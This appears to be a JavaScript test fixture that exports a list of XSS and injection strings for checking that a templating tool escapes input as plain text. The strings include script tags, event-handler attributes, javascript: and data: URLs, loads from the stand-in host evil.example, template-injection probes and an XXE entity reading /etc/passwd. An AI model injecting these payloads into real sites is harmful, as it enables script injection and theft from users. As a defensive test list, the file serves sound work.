/*
 * Texts that have run in somebody's page, or come near it. None may be more than text in ours.
 */
const BASIC = [
	'<script>alert(1)</script>', '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '</title><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>', '</script><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>',
	'<img src="javascript:alert(1)">', '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>',
	'<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>',
	'<iframe srcdoc="<script>alert(1)</script>">', '<object data="data:text/html,<script>alert(1)</script>">', '<embed src=javascript:alert(1)>',
	'<a href="javascript:alert(1)">x</a>', '<a href=java&#x09;script:alert(1)>x</a>', '<form action=javascript:alert(1)><button>x',
	'<button formaction=javascript:alert(1)>x', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>',
	'<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<base href=//evil.example/>',
	'<link rel=stylesheet href=//evil.example/x.css>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<style>@import "//evil.example/x.css";</style>', '<p style="background:url(javascript:alert(1))">', '<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>',
	'<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
];
const QUOTES = [
	'" onmouseover="alert(1)', '\' onmouseover=\'alert(1)', '` onmouseover=alert(1)', '" autofocus onfocus="alert(1)" x="', '"/><b>', '\\"-alert(1)//',
	'&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;b&amp;gt;',
];
const ADDRESSES = [
	'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\u200Bscript:alert(1)', 'javascript://%0aalert(1)', 'data:text/html,<script>alert(1)</script>',
	'vbscript:msgbox(1)', '//evil.example/', '/\\evil.example/', 'https:evil.example', '[x](javascript:alert(1))', '![x](data:image/svg+xml,<svg onload=alert(1)>)',
];
const TEMPLATES = [
	'{site.name}', '{{constructor}}', '{page.canonical}', '<t:part name="layout"/>', '<t:group xmlns:t="urn:evolv:template"/>', '${7*7}', '{%x%}', '<%= 7*7 %>',
];
const ODD = [
	'\u202Eevil', '\u2028alert(1)\u2029', '\uFEFFx', '😀 &#128512;', '%3Cscript%3Ealert(1)%3C/script%3E', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

export const ATTACKS = [...BASIC, ...QUOTES, ...ADDRESSES, ...TEMPLATES, ...ODD];
